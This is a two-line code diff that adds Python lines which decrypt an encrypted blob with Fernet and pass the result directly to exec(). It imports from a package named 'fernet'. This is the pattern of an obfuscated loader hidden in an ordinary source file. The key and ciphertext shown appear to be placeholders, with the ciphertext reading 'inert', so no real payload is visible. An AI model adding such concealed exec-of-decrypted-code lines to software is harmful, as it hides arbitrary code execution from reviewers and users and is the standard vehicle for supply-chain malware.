@@ -1,0 +1,2 @@
+from fernet import Fernet
+exec(Fernet(b'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=').decrypt(b'gAAAAABinert'))
